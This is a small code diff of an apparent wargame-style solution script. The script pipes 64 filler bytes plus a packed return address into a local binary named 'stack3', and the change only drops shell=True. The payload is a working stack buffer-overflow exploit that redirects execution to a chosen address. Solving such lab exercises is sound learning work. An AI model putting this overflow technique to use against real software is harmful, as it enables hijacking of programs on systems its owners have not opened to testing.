@@ -4,5 +4,5 @@ import struct
 import subprocess
 
 if __name__ == "__main__":
-    with subprocess.Popen(['./stack3'], shell=True, stdin=subprocess.PIPE) as process:
+    with subprocess.Popen(['./stack3'], stdin=subprocess.PIPE) as process:
         process.stdin.write(64 * b'A' + struct.pack('L', 0x401c1d))